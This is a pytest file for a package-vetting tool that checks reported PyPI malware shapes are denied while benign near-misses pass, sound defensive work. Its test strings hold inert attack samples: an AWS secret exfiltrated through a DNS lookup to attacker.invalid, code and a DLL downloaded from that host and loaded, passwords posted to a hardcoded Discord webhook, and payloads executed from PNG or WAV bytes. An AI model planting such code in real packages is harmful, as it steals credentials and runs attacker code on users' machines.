"""Real PyPI malware nobody here had seen, as published reports show it (ADR 0086).

``report_samples.SHAPES`` holds 89 shapes written inert from reports of 2023-2026
campaigns and GuardDog's rules. Most were already denied on fe1d346 and are kept here as a
recall check (``REPORTED``). Those that were held or allowed there are in ``NEW``: each was
checked to fail on fe1d346 and is denied since: a payload carried in a picture's or a
sound's bytes, ``python -c`` code started from a ``.pth``, a client's token sent to the
author's chat bot, a downloaded file made a module, another process's memory sent away, a
library downloaded for ``LD_PRELOAD``, a DLL kept XORed in a package file, a camera's or
a microphone's capture sent, ``.env`` files found by a glob and sent. The near-misses are
the shapes real packages use."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel
from tests.unit.imports.packages.report_samples import SHAPES, init

# Denied since ADR 0086 (held or allowed on fe1d346), with variants of the same rules.
NEW_FROM_REPORTS = (
    "pth-popen-python-b64",
    "wav-steganography-exec",
    "pil-lsb-steganography-exec",
    "png-embedded-binary-dropped-and-run",
    "crypto-client-token-sent-to-telegram",
    "runner-memory-dumped-for-secrets",
    "downloaded-module-imported-by-spec",
    "downloaded-zip-zipimported",
    "ld-preload-dropped-library",
    "xor-dll-from-package-file-loaded",
    "webcam-frame-sent",
    "microphone-recorded-and-sent",
    "dotenv-files-globbed-and-sent",
)
VARIANTS: dict[str, dict[str, str]] = {
    # The interpreter started with code on import: its code is read as code (a command
    # naming a URL or ``curl``, or wiring a socket to a shell, was already denied).
    "python-c-secret-in-dns-on-import": init(
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c', 'import os, socket; socket.gethostbyname('\n"
        '    \'os.environ["AWS_SECRET_ACCESS_KEY"] + ".x.attacker.invalid")\'])\n'
    ),
    # A picture's bytes read with ``open`` and cut: the same payload, no decoder named.
    "png-bytes-cut-and-exec": {
        "evpkg/__init__.py": (
            "import pathlib\n"
            "raw = (pathlib.Path(__file__).parent / 'logo.png').read_bytes()\n"
            "exec(open(__file__.replace('__init__.py', 'logo.png'), 'rb').read()[4096:])\n"
        ),
        "evpkg/logo.png": "\x89PNG\r\n\x1a\n",
    },
    "sound-samples-from-scipy-exec": init(
        "import os\nfrom scipy.io import wavfile\n"
        "rate, data = wavfile.read(os.path.join(os.path.dirname(__file__), 'a.wav'))\n"
        "exec(bytes(int(x) & 0xFF for x in data[:2048]))\n"
    ),
    # A password handed to a login helper, sent to a Discord webhook written in the code.
    "password-sent-to-own-webhook": init(
        "import requests\n"
        "def login(user, password):\n"
        "    requests.post('https://discord.com/api/webhooks/1203040506/AbCdEfGhIjKlMnOpQrStUvWxYz012345',\n"
        "                  json={'content': user + ':' + password})\n"
        "    return True\n"
    ),
    "downloaded-source-loaded-by-sourcefileloader": init(
        "import importlib.machinery, urllib.request\n"
        "urllib.request.urlretrieve('https://attacker.invalid/m.py', '/tmp/.m.py')\n"
        "importlib.machinery.SourceFileLoader('m', '/tmp/.m.py').load_module()\n"
    ),
    "dll-downloaded-on-import": init(
        "import urllib.request\n"
        "urllib.request.urlretrieve('https://attacker.invalid/v',\n"
        "                           'C:\\\\Users\\\\Public\\\\version.dll')\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # setup.py asks the interpreter where numpy's headers are; a module prints its version.
    "numpy-include-probe-in-setup": {
        "setup.py": (
            "import subprocess, sys\nfrom setuptools import setup\n"
            "inc = subprocess.check_output([sys.executable, '-c',\n"
            "    'import numpy; print(numpy.get_include())']).decode().strip()\n"
            "setup(name='evpkg', version='1.0', include_dirs=[inc])\n"
        ),
        "evpkg/__init__.py": "",
    },
    "interpreter-version-probe-on-import": init(
        "import subprocess, sys\n"
        "VERSION = subprocess.run([sys.executable, '-c', 'import sys; print(sys.version)'],\n"
        "                         capture_output=True, text=True).stdout\n"
    ),
    # Sounds and pictures read as data: an audio loader, a thumbnailer, an icon installed.
    "audio-samples-read": init(
        "import wave\nimport numpy as np\n"
        "def load(path):\n"
        "    with wave.open(path) as w:\n"
        "        return np.frombuffer(w.readframes(w.getnframes()), dtype=np.int16)\n"
    ),
    "picture-thumbnailed": init(
        "from PIL import Image\n"
        "def thumb(path, out):\n"
        "    img = Image.open(path)\n"
        "    img.thumbnail((128, 128))\n"
        "    img.save(out)\n"
    ),
    "icon-copied-and-registered": {
        "evpkg/__init__.py": (
            "import os, subprocess\n"
            "def install_icon():\n"
            "    dst = os.path.expanduser('~/.local/share/icons/evpkg.png')\n"
            "    with open(os.path.join(os.path.dirname(__file__), 'icon.png'), 'rb') as f:\n"
            "        open(dst, 'wb').write(f.read())\n"
            "    subprocess.run(['xdg-icon-resource', 'install', '--size', '64', dst])\n"
        ),
        "evpkg/icon.png": "\x89PNG\r\n\x1a\n",
    },
    # A notifier sends through the caller's bot; an SDK sends its token to its own API.
    "telegram-notifier-with-the-callers-bot": init(
        "import requests\n"
        "def notify(token, chat_id, text):\n"
        "    url = f'https://api.telegram.org/bot{token}/sendMessage'\n"
        "    requests.post(url, data={'chat_id': chat_id, 'text': text})\n"
    ),
    "sdk-sends-its-token-to-its-api": init(
        "import requests\n"
        "class CryptoPay:\n"
        "    def __init__(self, token):\n"
        "        self.session = requests.Session()\n"
        "        self.session.get('https://pay.crypt.bot/api/getMe',\n"
        "                         headers={'Crypto-Pay-API-Token': token})\n"
    ),
    # A plugin loader makes modules of its own files; a vendored folder goes on sys.path.
    "own-plugins-loaded-by-spec": init(
        "import glob, importlib.util, os, sys\n"
        "here = os.path.join(os.path.dirname(__file__), 'plugins')\n"
        "sys.path.insert(0, os.path.join(os.path.dirname(__file__), '_vendor'))\n"
        "for p in glob.glob(os.path.join(here, '*.py')):\n"
        "    spec = importlib.util.spec_from_file_location(os.path.basename(p)[:-3], p)\n"
        "    spec.loader.exec_module(importlib.util.module_from_spec(spec))\n"
    ),
    # A native library fetched when asked; memory statistics sent to a metrics endpoint.
    "native-library-fetched-when-called": init(
        "import os, urllib.request\n"
        "def fetch(cache):\n"
        "    target = os.path.join(cache, 'libfoo.so')\n"
        "    urllib.request.urlretrieve('https://example.org/libfoo.so', target)\n"
    ),
    # A checksum of a file's bytes; a websocket frame unmasked with the mask it carries.
    "checksum-of-a-file": init(
        "def crc8(path):\n"
        "    crc = 0\n"
        "    for b in open(path, 'rb').read():\n"
        "        crc = (crc ^ b) & 0xFF\n"
        "    return crc\n"
    ),
    "websocket-frame-unmasked": init(
        "import socket\n"
        "def frame(sock):\n"
        "    head = sock.recv(6)\n"
        "    mask, data = head[2:6], sock.recv(head[1] & 0x7F)\n"
        "    return bytes(b ^ mask[i % 4] for i, b in enumerate(data))\n"
    ),
    # A camera previewed on the screen; ``.env`` files found and loaded into the process.
    "webcam-previewed-locally": init(
        "import cv2\n"
        "def preview():\n"
        "    cam = cv2.VideoCapture(0)\n"
        "    ok, frame = cam.read()\n"
        "    cv2.imshow('preview', frame)\n"
    ),
    "dotenv-files-loaded": init(
        "import glob\nfrom dotenv import load_dotenv\n"
        "def load_all():\n"
        "    for p in glob.glob('**/.env', recursive=True):\n"
        "        load_dotenv(p)\n"
    ),
    "meminfo-sent-as-metrics-when-called": init(
        "import requests\n"
        "def report(endpoint):\n"
        "    requests.post(endpoint, data=open('/proc/meminfo').read())\n"
    ),
}

# A bot token in the address a module sends to is the author's channel (ADR 0086: the
# token's pattern missed it there); it holds for a person, as one written alone did.
BOT_URL_HELD = init(
    "import requests\n"
    "def ping(text):\n"
    "    requests.post('https://api.telegram.org/bot7012345678:AAHk2xQ9vB3nL5mP8rT1wY4zC6dF0gJ7sE2'\n"
    "                  '/sendMessage', data={'chat_id': '5001', 'text': text})\n"
)

# Shapes from the reports still held by design: an opaque pyarmor runtime, and a second
# package installed by setup.py (ADR 0048).
HELD = ("pyarmor-runtime-blob", "second-stage-pip-install-in-setup")
# Still allowed: a shipped DLL loaded on import, the whole environment sent when a class is
# made (ADR 0086, "Still not detected").
UNDETECTED = ("dll-sideloaded-by-ctypes-on-import", "whole-env-sent-when-class-made")
REPORTED = sorted(set(SHAPES) - set(NEW_FROM_REPORTS) - set(HELD) - set(UNDETECTED))


def _verdict(files: dict[str, str]) -> Outcome:
    if "setup.py" in files:
        return vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict
    blob = wheel("evpkg", "1.0", dict[str, str | bytes](files))
    return vet("evpkg-1.0-py3-none-any.whl", blob).verdict


@pytest.mark.parametrize("name", NEW_FROM_REPORTS)
def test_newly_denied_report_shapes(name: str) -> None:
    assert _verdict(SHAPES[name][0]) is Outcome.DENY, (name, SHAPES[name][1])


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_newly_denied_variants(name: str) -> None:
    assert _verdict(VARIANTS[name]) is Outcome.DENY, name


@pytest.mark.parametrize("name", REPORTED)
def test_report_shapes_already_denied_stay_denied(name: str) -> None:
    assert _verdict(SHAPES[name][0]) is Outcome.DENY, (name, SHAPES[name][1])


@pytest.mark.parametrize("name", HELD)
def test_report_shapes_held(name: str) -> None:
    assert _verdict(SHAPES[name][0]) is Outcome.HOLD, name


# ``ez_setup.py`` (old sdists) downloads a setuptools egg from the index and puts it on
# ``sys.path`` at install time: held for a person as a download at install was, not denied.
EZ_SETUP = (
    "import os, sys\nfrom urllib.request import urlopen\n"
    "def download_setuptools(version, to_dir=os.curdir):\n"
    "    egg = 'setuptools-%s-py%s.egg' % (version, sys.version[:3])\n"
    "    saveto = os.path.join(to_dir, egg)\n"
    "    data = urlopen('https://pypi.python.org/packages/source/s/setuptools/' + egg).read()\n"
    "    dst = open(saveto, 'wb')\n"
    "    dst.write(data)\n"
    "    return os.path.realpath(saveto)\n"
    "def use_setuptools(version='0.6c11'):\n"
    "    egg = download_setuptools(version)\n"
    "    sys.path.insert(0, egg)\n"
)


def test_ez_setup_bootstrap_stays_held() -> None:
    files = {
        "ez_setup.py": EZ_SETUP,
        "setup.py": "from ez_setup import use_setuptools\nuse_setuptools()\n"
        "from setuptools import setup\nsetup(name='evpkg', version='1.0')\n",
        "evpkg/__init__.py": "",
    }
    assert _verdict(files) is Outcome.HOLD


def test_a_bot_token_in_an_address_holds() -> None:
    assert _verdict(BOT_URL_HELD) is Outcome.HOLD


@pytest.mark.parametrize("name", sorted(ALLOWED))
def test_near_miss_allowed(name: str) -> None:
    assert _verdict(ALLOWED[name]) is Outcome.ALLOW, name


def test_every_shape_names_its_source() -> None:
    assert all(source.strip() for _, source in SHAPES.values())
    assert len(SHAPES) >= 40  # the breadth the issue asked for
